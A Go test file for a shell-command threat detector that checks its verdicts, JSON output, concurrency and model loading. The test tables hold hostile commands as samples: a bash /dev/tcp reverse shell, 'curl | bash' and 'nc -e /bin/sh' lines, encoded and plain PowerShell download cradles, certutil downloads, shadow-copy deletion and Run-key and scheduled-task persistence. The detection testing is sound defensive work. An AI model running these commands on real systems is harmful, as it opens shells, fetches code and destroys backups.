package detect

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/vigilsec/vigil/internal/command"
	"github.com/vigilsec/vigil/internal/command/rules"
	"github.com/vigilsec/vigil/internal/deobfuscate"
	"github.com/vigilsec/vigil/internal/ml/artifact"
	"github.com/vigilsec/vigil/internal/ml/linear"
	"github.com/vigilsec/vigil/models"
)

var (
	shippedOnce sync.Once
	shipped     *Detector
	shippedErr  error
)

// newShipped returns a detector over the embedded models and rules.
func newShipped(t testing.TB) *Detector {
	t.Helper()
	shippedOnce.Do(func() {
		eng, err := rules.Load(true)
		if err != nil {
			shippedErr = err
			return
		}
		m, err := LoadModels(models.FS)
		if err != nil {
			shippedErr = err
			return
		}
		o := DefaultOptions()
		o.Thresholds = m.Thresholds
		shipped, shippedErr = New(command.NewAnalyzer(eng, deobfuscate.DefaultLimits()), m, o)
	})
	if shippedErr != nil {
		t.Fatal(shippedErr)
	}
	return shipped
}

func TestShippedVerdicts(t *testing.T) {
	d := newShipped(t)
	tests := []struct {
		cmd   string
		label string
		tech  string // a technique expected among the top 5 ("" = any)
	}{
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "Malicious", "T1059"},
		{"curl -s http://203.0.113.9/x.sh | bash", "Malicious", ""},
		{"vssadmin delete shadows /all /quiet", "Malicious", "T1490"},
		{"ls -la", "Benign", ""},
		{"git status", "Benign", ""},
		{"docker ps -a", "Benign", ""},
		{"nmap -sn 10.0.0.0/24", "Suspicious", "T1046"},
		{"nmap -sV -p- 10.0.0.0/24", "Malicious", "T1046"}, // aggressive scan: promoted, as in Genos
		{"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\Users\\Public\\u.exe /f", "Malicious", "T1547"},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			v, err := d.Scan(tt.cmd)
			if err != nil {
				t.Fatal(err)
			}
			if v.Label != tt.label {
				t.Errorf("label %s (%s, scores %+v), want %s", v.Label, v.Reason, v.Scores, tt.label)
			}
			if len(v.Techniques) == 0 || len(v.Techniques) > MaxTechniques {
				t.Fatalf("%d techniques", len(v.Techniques))
			}
			found := tt.tech == ""
			for i, tq := range v.Techniques {
				found = found || tq.ID == tt.tech
				if tq.Name == "" || len(tq.Tactics) == 0 {
					t.Errorf("technique %s lacks a name or tactics", tq.ID)
				}
				if i > 0 && tq.Confidence > v.Techniques[i-1].Confidence {
					t.Errorf("techniques not sorted: %v", v.Techniques)
				}
			}
			if !found {
				t.Errorf("%s not among %v", tt.tech, v.Techniques)
			}
		})
	}
}

func TestVerdictJSONContract(t *testing.T) {
	v, err := newShipped(t).Scan("powershell -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(v)
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"label", "confidence", "action", "scores", "deobfuscated", "decoded_payload", "techniques", "evidence", "elapsed_us"} {
		if _, ok := m[k]; !ok {
			t.Errorf("field %q missing from %s", k, b)
		}
	}
	if v.Deobfuscated == nil || !strings.Contains(strings.ToLower(*v.Deobfuscated), "downloadstring") {
		t.Errorf("deobfuscated = %v, want the decoded cradle", v.Deobfuscated)
	}
	if v.DecodedPayload == nil {
		t.Error("decoded_payload is null for an -Enc command")
	}
	if v.Label != "Malicious" || v.Action != "block" {
		t.Errorf("download cradle: %s/%s", v.Label, v.Action)
	}
	if !bytes.Contains(b, []byte(`"kind":"deobfuscation"`)) || !bytes.Contains(b, []byte(`"kind":"rule"`)) {
		t.Errorf("evidence lacks rules or deobfuscation steps: %s", b)
	}
}

func TestUnchangedCommandHasNullDeobfuscated(t *testing.T) {
	v, err := newShipped(t).Scan("uname -a")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(v)
	if !bytes.Contains(b, []byte(`"deobfuscated":null`)) || !bytes.Contains(b, []byte(`"decoded_payload":null`)) {
		t.Errorf("want null deobfuscated and decoded_payload: %s", b)
	}
}

func TestScanRejectsBadInput(t *testing.T) {
	d := newShipped(t)
	if _, err := d.Scan("   "); !errors.Is(err, command.ErrEmpty) {
		t.Errorf("blank line: %v", err)
	}
	if _, err := d.Scan(strings.Repeat("a", 70<<10)); !errors.Is(err, command.ErrTooLarge) {
		t.Errorf("70 KiB line: %v", err)
	}
}

func TestConcurrentScansAgree(t *testing.T) {
	d := newShipped(t)
	cmds := []string{"whoami", "nc -e /bin/sh 10.0.0.1 4444", "ls", "certutil -urlcache -f http://x/a.exe a.exe"}
	want := make([]string, len(cmds))
	for i, c := range cmds {
		v, _ := d.Scan(c)
		want[i] = v.Label + v.Techniques[0].ID
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 50 {
				c := (g + i) % len(cmds)
				v, err := d.Scan(cmds[c])
				if err != nil || v.Label+v.Techniques[0].ID != want[c] {
					t.Errorf("concurrent scan of %q differs", cmds[c])
					return
				}
			}
		}()
	}
	wg.Wait()
}

func TestLoadModelsRejectsOtherSchema(t *testing.T) {
	m, _ := linear.New(8, 3)
	var buf bytes.Buffer
	if err := artifact.Save(&buf, m.Artifact("0000", Labels[:])); err != nil {
		t.Fatal(err)
	}
	fsys := fstest.MapFS{Tier1Path: {Data: buf.Bytes()}, Tier2Path: {Data: buf.Bytes()}}
	_, err := LoadModels(fsys)
	if !errors.Is(err, artifact.ErrSchema) || !strings.Contains(err.Error(), "vigil train") {
		t.Errorf("want a schema error that says how to retrain, got %v", err)
	}
	if _, err := LoadModels(fstest.MapFS{}); err == nil {
		t.Error("empty models directory accepted")
	}
}

func BenchmarkScan(b *testing.B) {
	d := newShipped(b)
	cmds := []string{
		"ls -la /var/log",
		"git commit -m 'fix: handle empty input'",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')\"",
		"find / -perm -4000 -type f 2>/dev/null",
		"schtasks /create /tn upd /tr C:\\Users\\Public\\u.exe /sc onlogon",
		"kubectl get pods -n kube-system -o wide",
		"curl -fsSL https://get.docker.com | sh",
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if _, err := d.Scan(cmds[i%len(cmds)]); err != nil {
			b.Fatal(err)
		}
		i++
	}
}

// readLines returns the commands of a testdata file: one per line, blank
// lines and '#' comments skipped.
func readLines(t *testing.T, name string) []string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, l := range strings.Split(string(b), "\n") {
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") {
			out = append(out, l)
		}
	}
	return out
}

// TestShippedOnOwnChecks runs the shipped models over command lines written
// for this check and found in no training source: everyday administration
// across Linux, macOS, cmd and PowerShell, and attacks in fresh forms. The
// bounds are the product's promise to an operator: an admin line is almost
// never an alert, and the classic attack forms always are.
func TestShippedOnOwnChecks(t *testing.T) {
	d := newShipped(t)
	admin := readLines(t, "admin_benign.txt")
	var malicious, suspicious []string
	for _, c := range admin {
		v, err := d.Scan(c)
		if err != nil {
			t.Fatalf("%q: %v", c, err)
		}
		switch v.Label {
		case "Malicious":
			malicious = append(malicious, c)
		case "Suspicious":
			suspicious = append(suspicious, c)
		}
	}
	t.Logf("admin lines: %d, Malicious %d %q, Suspicious %d %q", len(admin), len(malicious), malicious, len(suspicious), suspicious)
	if len(malicious) > maxAdminMalicious {
		t.Errorf("%d of %d admin lines called Malicious (at most %d): %q", len(malicious), len(admin), maxAdminMalicious, malicious)
	}
	if len(malicious)+len(suspicious) > len(admin)/10 {
		t.Errorf("%d of %d admin lines flagged (at most 10%%)", len(malicious)+len(suspicious), len(admin))
	}
	for _, c := range readLines(t, "attacks.txt") {
		v, err := d.Scan(c)
		if err != nil {
			t.Fatalf("%q: %v", c, err)
		}
		if v.Label != "Malicious" {
			t.Errorf("attack %q called %s (%s, scores %+v)", c, v.Label, v.Reason, v.Scores)
		}
	}
}

// maxAdminMalicious is how many of the admin check lines may be called
// Malicious.
const maxAdminMalicious = 2
